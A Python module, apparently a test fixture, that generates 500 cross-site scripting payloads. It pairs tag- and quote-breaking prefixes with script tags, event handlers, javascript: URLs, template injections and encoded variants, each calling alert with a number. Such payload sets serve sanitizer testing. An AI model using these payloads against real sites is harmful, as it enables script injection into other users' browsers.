"""Five hundred ways to smuggle a script into a page; each would call alert with its own number."""

from __future__ import annotations

import itertools

# What closes the place where a text stands: a text node, attributes of each quoting, elements of raw text, comments.
_OUT_OF = (
    "", '"', "'", '">', "'>", "`>", " ", "/>", "</title>", "</textarea>", "</script>", "</style>", "</option></select>",
    "</noscript>", "</template>", "-->", "]]>", "--!>", "<!--", "</a>", "</svg>", "\\\";", "</iframe>", "%>", "\x0b",
)  # fmt: skip
_INTO = (
    "<script>{}</script>",
    "<ScRiPt>{}</sCrIpT>",
    "<script/x>{}</script>",
    "<script src=data:,{}></script>",
    "<img src=x onerror={}>",
    '<img src="x" onerror="{}">',
    "<IMG SRC=/ oNeRrOr\n=\n{}>",
    "<svg onload={}>",
    "<svg/onload={}//",
    "<svg><script>{}</script></svg>",
    "<body onload={}>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
    "<iframe src=javascript:parent.{}></iframe>",
    "<a href=javascript:{} autofocus>x</a>",
    "<form action=javascript:{}><button autofocus>x</button></form>",
    "<video><source onerror={}></video>",
    "<math><mtext><table><mglyph><style><img src=x onerror={}>",
    "<object data=javascript:{}></object>",
)
# What needs no angle bracket: attributes, addresses, templates of our own and of others, styles, and odd letters.
_WITHOUT = (
    '" onmouseover={} autofocus onfocus={} x="', "' onfocus={} autofocus tabindex=0 x='", " onfocus={} autofocus ",
    "javascript:{}", "JaVaScRiPt:{}", "java\tscript:{}", "\x01javascript:{}", " javascript:{}", "javascript&colon;{}",
    "data:text/html,<script>{}</script>", "vbscript:{}", "{{{{ {} }}}}", "{{% print({}) %}}", "${{{}}}", "<%= {} %>",
    "';{};'", '";{};"', "`;{};`", "</script><script>{}//", "&lt;script&gt;{}&lt;/script&gt;", "&#60;script&#62;{}",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e", "%3Cscript%3E{}%3C/script%3E", "＜script＞{}＜/script＞",
    "hx-on:load={}", '" hx-on::after-init="{}', "<b hx-get=/ hx-trigger=load hx-on:htmx:load={}>", "[x](javascript:{})",
    "![x](x\" onerror={} y=\")", "<javascript:{}>", "\u202e<img src=x onerror={}>", "<img src=x:{} onerror=eval(src)>",
)  # fmt: skip
COUNT = 500
# Stands before all others, in case that only the beginning of a text is shown: it makes an element or an attribute that
# no page has, whatever a policy lets run of it.
HOLE = "aan-hole"
FIRST = f"<{HOLE}>'\" {HOLE} x= </title></textarea></script></style></select><{HOLE}>"
# What an address becomes.
LEADS_TO_A_SCRIPT = "javascript:alert(0)//"


def payloads() -> list[str]:
    """Return the payloads, all different."""
    shapes = [out + into for out, into in itertools.product(_OUT_OF, _INTO)]
    chosen = [*_WITHOUT, *shapes][:COUNT]
    return [one.format(*[f"alert({number})"] * 2) for number, one in enumerate(chosen)]
